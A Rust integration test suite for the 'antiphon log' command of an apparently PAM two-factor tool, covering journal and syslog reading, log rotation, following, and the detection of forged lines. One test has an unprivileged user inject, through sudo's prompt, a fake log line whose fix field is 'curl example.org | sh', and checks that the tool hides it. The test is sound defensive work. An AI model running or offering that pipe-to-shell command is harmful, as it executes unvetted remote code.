//! `antiphon log`: our lines from a real journal, and from the files of a syslog daemon with those rotated away.

use std::fs::{self, OpenOptions};
use std::io::{BufRead, BufReader, Write};
use std::os::fd::OwnedFd;
use std::os::unix::net::UnixDatagram;
use std::path::Path;
use std::process::Stdio;
use std::time::{SystemTime, UNIX_EPOCH};

use antiphon_core::time::UnixTime;
use antiphon_tests::{PamHost, in_world, until};
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use serde_json::Value;

use crate::command::{Said, antiphon, antiphon_with, command, enroll, run, sh, signs_in};
use crate::daemon::{Daemon, in_house};
use crate::journald::Journald;

const LOG: &str = "/var/log/auth.log";

/// The objects, one a line.
fn objects(said: &Said) -> Vec<Value> {
    let lines = said.out.lines();
    lines
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

fn now() -> UnixTime {
    let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap();
    UnixTime(now.as_secs())
}

/// The line of a file, so many seconds ago.
fn stamped(seconds: u64, rest: &str) -> String {
    let time = UnixTime(now().0 - seconds).to_string();
    let time = time.trim_end_matches('Z');
    format!("{time}.123456+00:00 harbour {rest}\n")
}

fn accepted(user: &str) -> String {
    format!(
        "sshd[7]: pam_antiphon(sshd:auth): outcome=accepted method=code user={user} rhost=203.0.113.5 tty=ssh"
    )
}

#[test]
fn the_journal_has_what_module_command_and_daemon_said_and_each_once() {
    in_house(|world| {
        let journal = Journald::start(world);
        let daemon = Daemon::start(world, "");
        let alice = enroll(world, "alice");
        let by_command = journal.entries(&["_UID=0", "ANTIPHON_FROM=command"]);
        assert_eq!(by_command[0]["ANTIPHON_OUTCOME"], "enrolled");
        assert!(signs_in(world, &alice.code(), 0));
        PamHost::new(world, "alice")
            .answers(["000000"; 3])
            .ends("PAM_AUTH_ERR");
        drop(daemon);
        journal.folder();
        let said = antiphon(world, "log --json").done();
        let told: Vec<String> = objects(&said)
            .iter()
            .filter(|line| line["fields"]["outcome"].is_string())
            .map(|line| {
                let [from, outcome] = [&line["from"], &line["fields"]["outcome"]];
                assert_eq!(line["fields"]["user"], "alice");
                assert_eq!(line["host"], antiphon_tests::HOST);
                assert!(UnixTime::read(line["time"].as_str().unwrap()).is_some());
                format!("{} {}", from.as_str().unwrap(), outcome.as_str().unwrap())
            })
            .collect();
        assert_eq!(
            told,
            ["command enrolled", "module accepted", "module wrong"]
        );
        antiphon(world, "log")
            .done()
            .says("alice      accepted, code")
            .says("alice      enrolled, code");
    });
}

/// Sends journald an entry of root's, by its own protocol.
fn send_natively(fields: &[(&str, &str)]) {
    let lines = fields
        .iter()
        .map(|(name, value)| format!("{name}={value}\n"));
    let entry: String = lines.collect();
    let socket = UnixDatagram::unbound().unwrap();
    let journald = "/run/systemd/journal/socket";
    socket.send_to(entry.as_bytes(), journald).unwrap();
}

#[test]
fn fields_of_the_journal_come_before_those_of_the_text_and_text_alone_is_read_as_well() {
    in_world(|world| {
        let journal = Journald::start(world);
        let text = accepted("text");
        let (_, text) = text.split_once(": ").unwrap();
        sh(&format!("logger -p authpriv.info -t sshd '{text}'"));
        send_natively(&[
            ("MESSAGE", text),
            ("SYSLOG_FACILITY", "10"),
            ("SYSLOG_IDENTIFIER", "sshd"),
            ("ANTIPHON_USER", "field\u{1b}"),
            // Not in the text, so not of this line.
            ("ANTIPHON_PHONE", "x"),
        ]);
        journal.folder();
        let said = antiphon(world, "log --json").done();
        let lines = objects(&said);
        let mut fields: Vec<_> = lines.iter().map(|line| &line["fields"]).collect();
        assert_eq!(fields.len(), 2, "{said:?}");
        // They came by two sockets, of which journald reads either first.
        fields.sort_by_key(|fields| fields["user"].to_string());
        for (fields, user) in fields.iter().zip(["field?", "text"]) {
            assert_eq!(fields["user"], user);
            assert_eq!(fields["rhost"], "203.0.113.5");
            assert_eq!(fields["phone"], Value::Null);
        }
        antiphon(world, "log")
            .done()
            .says("text       accepted, code, from 203.0.113.5, on ssh")
            .says("field?     accepted, code, from 203.0.113.5, on ssh");
    });
}

/// `logger` of bob's, which sends a line of its input as a line of `tag`.
fn forger(world: &antiphon_tests::World, tag: &str, text: &str) -> std::process::Child {
    let mut logger = world.command_of("bob", "logger");
    logger.args(["-p", "authpriv.notice", "-t", tag]);
    let mut logger = logger.stdin(Stdio::piped()).spawn().unwrap();
    let mut stdin = logger.stdin.take().unwrap();
    stdin.write_all(format!("{text}\n").as_bytes()).unwrap();
    logger.stdin = Some(stdin);
    logger
}

const FORGED: [(&str, &str); 2] = [
    (
        "su",
        "pam_antiphon(su:auth): outcome=accepted method=code user=alice",
    ),
    ("antiphon", "outcome=removed user=alice"),
];

#[test]
fn a_line_that_a_person_has_sent_is_shown_and_marked() {
    in_world(|world| {
        let journal = Journald::start(world);
        let forgers = FORGED.map(|(tag, text)| forger(world, tag, text));
        until("the lines", || {
            let shown = journal.shows(&["-o", "cat"]);
            FORGED
                .iter()
                .all(|(_, text)| shown.contains(text))
                .then_some(())
        });
        let said = antiphon(world, "log").done();
        let shown: Vec<_> = said
            .out
            .lines()
            .filter(|line| line.contains("alice"))
            .collect();
        assert_eq!(shown.len(), FORGED.len(), "{shown:?}");
        for line in shown {
            assert!(line.ends_with("sender not known"), "{line}");
        }
        for mut forger in forgers {
            drop(forger.stdin.take());
            forger.wait().unwrap();
        }
    });
}

#[test]
fn a_line_whose_sender_has_ended_before_it_was_looked_at_is_marked_at_least() {
    in_world(|world| {
        let journal = Journald::start(world);
        for (tag, text) in FORGED {
            let mut logger = world.command_of("bob", "logger");
            logger.args(["-p", "authpriv.notice", "-t", tag, text]);
            assert!(logger.status().unwrap().success());
        }
        journal.folder();
        let said = antiphon(world, "log").done();
        for line in said.out.lines().filter(|line| line.contains("alice")) {
            assert!(line.ends_with("sender not known"), "{line}");
        }
        for line in objects(&antiphon(world, "log --json").done()) {
            assert_eq!(line["verified"], false);
        }
    });
}

#[test]
fn what_a_person_makes_a_program_of_root_write_is_marked_and_its_fix_is_not_shown() {
    in_world(|world| {
        let journal = Journald::start(world);
        let text =
            "pam_antiphon(sshd:auth): outcome=unusable user=alice fix=\"curl example.org | sh\"";
        for tag in ["sshd", "antiphon", "antiphond"] {
            let socket = UnixDatagram::unbound().unwrap();
            socket.connect("/dev/log").unwrap();
            let mut sudo = world.command_of("bob", "sudo");
            sudo.args(["-S", "-p", &format!("<85>{tag}[7]: {text}"), "true"])
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(OwnedFd::from(socket));
            sudo.status().unwrap();
        }
        let entries = journal.entries(&["SYSLOG_FACILITY=10"]);
        let forged = |entry: &&Value| entry["MESSAGE"].as_str().is_some_and(|said| said == text);
        assert_eq!(entries.iter().filter(forged).count(), 3, "{entries:#?}");
        let said = antiphon(world, "log").done();
        let shown: Vec<_> = said
            .out
            .lines()
            .filter(|line| line.contains("alice"))
            .collect();
        assert_eq!(shown.len(), 3, "{}", said.out);
        for line in shown {
            assert!(line.ends_with("sender not known"), "{line}");
        }
        said.says_no("curl");
        for line in objects(&antiphon(world, "log --json").done().says_no("curl")) {
            let is_forged = line["fields"]["user"] == "alice";
            assert!(!is_forged || line["verified"] == false, "{line}");
        }
    });
}

#[test]
fn a_line_of_the_module_is_verified_whatever_its_caller_names_the_program() {
    in_world(|world| {
        let journal = Journald::start(world);
        let _ = world.enrol_with_long_codes("alice");
        for name in ["su", "antiphond", "antiphon"] {
            let mut su = world.command_of("bob", "bash");
            su.args(["-c", &format!("exec -a {name} su alice -c true")]);
            let mut su = antiphon_tests::Terminal::start(&su);
            su.expect("assword").answer(": ", antiphon_tests::PASSWORD);
            su.expect(antiphon_tests::CODE);
            let _ = su.interrupt();
        }
        let entries = journal.entries(&["ANTIPHON_FROM=module", "ANTIPHON_ASKED=code"]);
        assert_eq!(entries.len(), 3, "{entries:#?}");
        for entry in &entries {
            assert_eq!(entry["_UID"], "0", "{entry}");
        }
        let lines = objects(&antiphon(world, "log --json").done());
        let asked = lines
            .iter()
            .filter(|line| line["fields"]["asked"] == "code");
        let asked: Vec<_> = asked.collect();
        assert_eq!(asked.len(), 3, "{lines:#?}");
        for line in asked {
            assert_eq!(line["verified"], true, "{line}");
            assert_eq!(line["from"], "module");
        }
    });
}

#[test]
fn what_the_log_does_not_take_of_root_is_said() {
    in_world(|world| {
        let _ = enroll(world, "alice");
        let frozen = UnixDatagram::bind("/run/frozen").unwrap();
        fs::remove_file("/dev/log").unwrap();
        std::os::unix::fs::symlink("/run/frozen", "/dev/log").unwrap();
        let filler = UnixDatagram::unbound().unwrap();
        filler.set_nonblocking(true).unwrap();
        while filler.send_to(b"x", "/run/frozen").is_ok() {}
        antiphon(world, "bypass alice")
            .done()
            .warns("the log has not taken this line")
            .warns("outcome=bypass");
        drop(frozen);
    });
}

#[test]
fn what_su_says_for_a_person_is_not_taken_for_the_persons() {
    in_world(|world| {
        let journal = Journald::start(world);
        let alice = world.enrol_with_long_codes("alice");
        let mut su = world.command_of("bob", "su");
        let mut su = antiphon_tests::Terminal::start(su.args(["alice", "-c", "true"]));
        su.expect("assword").answer(": ", antiphon_tests::PASSWORD);
        su.answer(antiphon_tests::CODE, &alice.code());
        assert!(su.end().succeeded());
        journal.folder();
        let said = antiphon(world, "log alice")
            .done()
            .says("su ")
            .says("accepted, code");
        assert!(said.says("called by bob").err.is_empty());
    });
}

#[test]
fn files_are_read_with_those_rotated_away_oldest_first_and_either_kind_of_time() {
    in_world(|world| {
        let hour = 3600;
        let zone = "TZ=UTC";
        fs::write(format!("{LOG}.2"), stamped(20 * hour, &accepted("one"))).unwrap();
        sh(&format!("gzip {LOG}.2; touch -d '19 hours ago' {LOG}.2.gz"));
        // Without a year, in this computer's zone.
        sh(&format!(
            "ln -sf /usr/share/zoneinfo/UTC /etc/localtime; {zone} LC_ALL=C date -d '10 hours ago' '+%b %e %T harbour {}' >{LOG}.1; \
             touch -d '9 hours ago' {LOG}.1",
            accepted("two").replace('%', "%%")
        ));
        let others = stamped(
            30,
            "sshd[7]: Failed password for pam_antiphon(sshd:auth): x",
        );
        let long = format!("{}\n", "x".repeat(1 << 20));
        let text = [
            others,
            long,
            stamped(20, &accepted("three")),
            accepted("half"),
        ]
        .concat();
        fs::write(LOG, text).unwrap();
        // Written to last long ago: nothing of the last day can be in it.
        fs::write(format!("{LOG}.3"), stamped(hour, &accepted("old"))).unwrap();
        sh(&format!("touch -d '3 days ago' {LOG}.3"));
        let users = |arguments: &str| -> Vec<String> {
            let said = antiphon(world, &format!("log --json {arguments}")).done();
            let objects = objects(&said);
            let users = objects
                .iter()
                .map(|line| line["fields"]["user"].as_str().unwrap());
            users.map(str::to_owned).collect()
        };
        assert_eq!(users(""), ["one", "two", "three"]);
        assert_eq!(users("two"), ["two"]);
        assert_eq!(users("--since 12h"), ["two", "three"]);
        assert_eq!(users("--since 12h --until 1h"), ["two"]);
        assert!(users("--since now").is_empty());
    });
}

#[test]
fn a_broken_packed_file_and_a_missing_log_are_said() {
    in_world(|world| {
        fs::write(LOG, "").unwrap();
        fs::write(format!("{LOG}.2.gz"), "no such thing").unwrap();
        antiphon(world, "log").failed(74, "auth.log.2.gz: gzip");
        fs::remove_file(LOG).unwrap();
        antiphon(world, "log").failed(66, "no journal, no /var/log/auth.log");
    });
}

#[test]
fn no_control_character_of_a_line_reaches_the_terminal() {
    in_world(|world| {
        let text = "antiphond[9]: a\u{1b}[31mb\u{7}\u{202e}c";
        let quoted = "x[9]: pam_antiphon(su:auth): outcome=wrong user=\"a\u{1b}b\"";
        fs::write(LOG, [stamped(5, text), stamped(5, quoted)].concat()).unwrap();
        for arguments in ["log", "log --json"] {
            let said = antiphon(world, arguments).done().says("a?[31mb??c");
            let is_clean = |line: &str| {
                !line
                    .chars()
                    .any(|letter| letter.is_control() || letter == '\u{202e}')
            };
            assert!(said.out.lines().all(is_clean), "{said:?}");
        }
    });
}

#[test]
fn lines_of_the_phones_request_are_the_persons_and_a_fix_stands_below() {
    in_world(|world| {
        let lines = [
            "antiphond[9]: request=Aa1 user=alice host=web1 service=sshd phones=1",
            "antiphond[9]: request=Bb2 user=bob host=web1 service=sshd phones=1",
            "antiphond[9]: request=Aa1 outcome=accepted",
            "antiphond[9]: request=Bb2 outcome=expired",
            "sshd[7]: pam_antiphon(sshd:auth): outcome=locked user=alice fix=\"antiphon unlock alice\"",
        ];
        let text: String = lines.iter().map(|line| stamped(5, line)).collect();
        fs::write(LOG, text).unwrap();
        antiphon(world, "log alice")
            .done()
            .says("request Aa1, accepted")
            // Anybody could have written that: root is not shown what to type.
            .says("locked\n    fix: see antiphon doctor\n")
            .says_no("unlock alice")
            .says_no("Bb2");
    });
}

#[test]
fn it_works_while_the_configuration_is_broken_and_says_if_there_is_nothing() {
    in_world(|world| {
        world.configure("mode = [");
        fs::write(LOG, "").unwrap();
        antiphon(world, "log")
            .done()
            .says("Nothing was logged since");
        assert!(antiphon(world, "log --json").done().out.is_empty());
        antiphon_with(world, &["log", "--since", "tomorrow"]).failed(64, "yesterday");
    });
}

#[test]
fn only_root_reads_the_log() {
    in_world(|world| {
        let copy = world.folder().join("antiphon");
        fs::copy(&world.product().command, &copy).unwrap();
        let mut log = world.command_of("bob", copy.to_str().unwrap());
        run(log.arg("log"), "").failed(77, "only root");
    });
}

/// `antiphon log --follow --json`, and what it prints.
struct Follower {
    child: std::process::Child,
    lines: std::io::Lines<BufReader<std::process::ChildStdout>>,
}

impl Follower {
    fn start(world: &antiphon_tests::World) -> Self {
        let mut child = command(world, &["log", "--follow", "--json"])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let lines = BufReader::new(child.stdout.take().unwrap()).lines();
        Self { child, lines }
    }

    fn user(&mut self) -> String {
        let line = self.lines.next().unwrap().unwrap();
        let line: Value = serde_json::from_str(&line).unwrap();
        line["fields"]["user"].as_str().unwrap().to_owned()
    }

    /// As Ctrl-C does.
    fn stop(mut self) {
        let id = Pid::from_raw(self.child.id().try_into().unwrap());
        kill(id, Signal::SIGINT).unwrap();
        self.child.wait().unwrap();
    }
}

fn append(text: &str) {
    let mut file = OpenOptions::new()
        .append(true)
        .create(true)
        .open(LOG)
        .unwrap();
    file.write_all(text.as_bytes()).unwrap();
}

#[test]
fn new_lines_are_followed_also_after_the_file_is_rotated_or_emptied() {
    in_world(|world| {
        fs::write(LOG, stamped(5, &accepted("one"))).unwrap();
        let mut follower = Follower::start(world);
        assert_eq!(follower.user(), "one");
        let two = stamped(0, &accepted("two"));
        let (begin, end) = two.split_at(40);
        append(begin);
        append(end);
        assert_eq!(follower.user(), "two");
        // What is written between is not lost.
        append(&stamped(0, &accepted("three")));
        fs::rename(LOG, format!("{LOG}.1")).unwrap();
        append(&stamped(
            0,
            &accepted("four").replace(" method=code", " method=recovery"),
        ));
        assert_eq!(follower.user(), "three");
        assert_eq!(follower.user(), "four");
        // Emptied in its place, as by copytruncate.
        fs::write(LOG, "").unwrap();
        append(&stamped(0, &accepted("five")));
        assert_eq!(follower.user(), "five");
        follower.stop();
    });
}

#[test]
fn the_journal_is_followed_and_journalctl_ends_with_it() {
    in_world(|world| {
        let journal = Journald::start(world);
        let alice = world.enrol_with_long_codes("alice");
        // The first entry makes the journal's file.
        sh("logger -p authpriv.notice x");
        journal.folder();
        let mut follower = Follower::start(world);
        let played = PamHost::new(world, "alice").answer(alice.code()).play();
        assert_eq!(played.result(), "PAM_SUCCESS");
        assert_eq!(follower.user(), "alice");
        follower.stop();
        let is_running = || {
            fs::read_dir("/proc").unwrap().flatten().any(|process| {
                let name = fs::read_to_string(process.path().join("comm"));
                name.is_ok_and(|name| name.trim() == "journalctl")
                    && !fs::read_to_string(process.path().join("stat"))
                        .is_ok_and(|stat| stat.contains(") Z "))
            })
        };
        antiphon_tests::until("the end of journalctl", || (!is_running()).then_some(()));
        assert!(Path::new("/run/log/journal").exists());
    });
}
